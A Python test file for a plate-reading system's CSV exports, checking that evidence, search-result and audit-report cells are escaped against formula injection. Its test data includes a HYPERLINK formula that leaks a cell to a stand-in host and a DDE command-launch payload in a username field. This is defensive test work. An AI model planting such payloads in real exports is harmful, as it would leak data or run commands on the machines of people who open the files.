"""CSV cells from cameras or people never run as spreadsheet formulas (OWASP CSV injection):
evidence exports, search results written with --out and the audit report's CSV."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from pathlib import Path

import polars as pl
from sqlalchemy.engine import Engine

import records
import sinks
from plateflow._store_output import ResultWriter

AT = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_evidence_csv_escapes_formula_cells(data_dir: Path, tmp_path: Path) -> None:
    store = sinks.ReadStore(data_dir, fsync=False)
    read = {
        "read_id": "r1", "camera_id": EVIL, "plate": "7ABC123", "confidence": 0.9,
        "ts": int(AT.timestamp() * 1000), "agency": "+SUM(1,2)", "image_ref": "@cmd",
        "lat": -33.5, "lon": -70.25,
    }  # fmt: skip
    store.write_reads(0, "1-0", [read])
    store.place_hold("C-1", ["r1"], by="det", at=AT, start=AT, end=AT + timedelta(hours=1))
    store.export_evidence("C-1", tmp_path / "out", by="sgt", at=AT)
    [row] = _rows((tmp_path / "out" / "reads.csv").read_text())
    assert row["camera_id"] == "'" + EVIL and row["agency"] == "'+SUM(1,2)"
    assert row["image_ref"] == "'@cmd" and row["plate"] == "7ABC123"
    assert row["lat"] == "-33.5"  # numbers stay numbers
    assert sinks.verify_evidence(tmp_path / "out")["reads"] == 1


def test_search_results_written_as_csv_escape_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "result.csv"
    frame = pl.DataFrame({"camera_id": [EVIL, "cam-1", "\tx", "-1"], "n": [-1, 2, 3, 4]})
    with ResultWriter(path, frame.schema) as writer:
        writer.write(frame)
    rows = _rows(path.read_text())
    assert [r["camera_id"] for r in rows] == ["'" + EVIL, "cam-1", "'\tx", "'-1"]
    assert [r["n"] for r in rows] == ["-1", "2", "3", "4"]


def test_the_audit_report_csv_escapes_formula_cells(engine: Engine) -> None:
    records.record_denied(engine, "login", reason="-unknown user", username="=cmd|'/C calc'!A0")
    report = records.audit_report(engine, None, start_ms=0, end_ms=2**42)
    rows = list(csv.reader(io.StringIO(report.csv())))
    denied = [r for r in rows if r[0] == "denied"]
    assert denied and denied[0][2] == "'=cmd|'/C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
